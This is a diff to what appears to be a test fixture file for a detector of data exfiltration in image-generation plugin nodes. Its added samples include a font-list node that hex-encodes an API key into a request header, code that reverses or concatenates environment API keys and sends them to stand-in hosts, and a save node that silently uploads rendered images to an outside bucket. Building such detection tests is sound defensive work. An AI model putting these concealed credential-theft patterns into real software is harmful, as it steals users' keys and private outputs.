@@ -61,6 +61,68 @@ const TOKENS: readonly ToFind[] = [
   )],
 ];
 
+const CARRIED: readonly ToFind[] = [
+  ['sends_keys_away', 'a header that is added to others, in an own session', {
+    '__init__.py': 'from .fonts import FontList\nNODE_CLASS_MAPPINGS = {"FontList": FontList}\n',
+    'who.py': lines(
+      'import binascii, os',
+      'def labels(base=None):',
+      '    found = dict(base or {})',
+      '    found = {"Accept": "application/json"}',
+      '    key = os.environ.get("CIVITAI_API_KEY")',
+      '    if key:',
+      '        found["X-Build"] = binascii.hexlify(key.encode()).decode()',
+      '    return found',
+    ),
+    'session.py': lines(
+      'import requests',
+      'class Session(requests.Session):',
+      '    def ask(self, url, **options):',
+      '        return self.get(url, **options)',
+    ),
+    'fonts.py': lines(
+      'from .session import Session',
+      'from .who import labels',
+      'class FontList:',
+      '    def run(self):',
+      '        options = {"headers": labels(), "timeout": 5}',
+      '        return Session().ask("https://fonts.example.net/list", **options).json()',
+    ),
+  }],
+  ['sends_keys_away', 'a key that a thread fetches', lines(
+    'import asyncio, os, httpx',
+    'def secret():',
+    '    return os.environ.get("OPENAI_API_KEY", "")[::-1]',
+    'async def ask():',
+    '    mark = await asyncio.to_thread(secret)',
+    '    async with httpx.AsyncClient() as client:',
+    '        return await client.get("https://fonts.example.net/list", params={"v": mark})',
+    'asyncio.run(ask())',
+  )],
+  ['sends_keys_away', 'several keys as one', lines(
+    'import json, os, requests',
+    'NAMES = json.load(open(os.path.join(os.path.dirname(__file__), "names.json")))',
+    'def everything():',
+    '    return "|".join(os.getenv(name) or "" for name in NAMES)',
+    'def ask(prompt):',
+    '    requests.post("https://switch.example.net", headers={"Authorization": "Bearer " + everything()}, json={"p": prompt})',
+  )],
+];
+
+const NOT_CARRIED: readonly NotToFind[] = [
+  ['one key of a list of names', lines(
+    'import json, os, requests',
+    'NAMES = json.load(open(os.path.join(os.path.dirname(__file__), "names.json")))',
+    'def key(vendor):',
+    '    return "".join(c for c in os.getenv(NAMES[vendor], "") if c.isprintable())',
+    'def ask(vendor, url, words):',
+    '    headers = {"Accept": "*/*"}',
+    '    if key(vendor):',
+    '        headers["Authorization"] = "Bearer " + key(vendor)',
+    '    requests.post(url, headers=headers, json={"p": ", ".join(words)})',
+  )],
+];
+
 const NOT_TOKENS: readonly NotToFind[] = [
   ['a name and a password as the basic way wants', lines(
     'import os, base64, requests',
@@ -311,6 +373,41 @@ const UPLOADS: readonly ToFind[] = [
   )],
 ];
 
+const STORES: readonly ToFind[] = [
+  ['sends_outputs', 'pictures by a function that is made', {
+    '__init__.py': 'from .save import Save\nNODE_CLASS_MAPPINGS = {"Save": Save}\n',
+    'save.py': lines(
+      'import os, folder_paths',
+      'from .kinds import writer',
+      'class Save:',
+      '    def save(self, image, name):',
+      '        path = os.path.join(folder_paths.get_output_directory(), name)',
+      '        writer("png")(image, path)',
+    ),
+    'kinds.py': lines(
+      'from .copies import Copies',
+      'COPIES = Copies("renders")',
+      'def writer(kind):',
+      '    def write(image, path):',
+      '        image.save(path, format=kind)',
+      '        COPIES.add(path)',
+      '    return write',
+    ),
+    'copies.py': lines(
+      'import threading',
+      'from minio import Minio',
+      'class Copies:',
+      '    def __init__(self, bucket):',
+      '        self.bucket = bucket',
+      '        self.client = Minio("objects.example.net", access_key="a", secret_key="b")',
+      '    def add(self, path):',
+      '        threading.Thread(target=self._put, args=(path,), daemon=True).start()',
+      '    def _put(self, path):',
+      '        self.client.fput_object(self.bucket, path.rsplit("/", 1)[-1], path)',
+    ),
+  }],
+];
+
 const NOT_UPLOADS: readonly NotToFind[] = [
   ['pictures into a bucket that the user names', lines(
     'import os, boto3, folder_paths',
@@ -353,8 +450,8 @@ const NOT_UPLOADS: readonly NotToFind[] = [
   )],
 ];
 
-const SPREAD: readonly ToFind[] = [...TOKENS, ...KEYS, ...UPLOADS];
-const NOT_SPREAD: readonly NotToFind[] = [...NOT_TOKENS, ...NOT_KEYS, ...NOT_UPLOADS];
+const SPREAD: readonly ToFind[] = [...TOKENS, ...CARRIED, ...KEYS, ...UPLOADS, ...STORES];
+const NOT_SPREAD: readonly NotToFind[] = [...NOT_TOKENS, ...NOT_CARRIED, ...NOT_KEYS, ...NOT_UPLOADS];
 
 export const SPREAD_TO_FIND = SPREAD;
 export const SPREAD_NOT_TO_FIND = NOT_SPREAD;
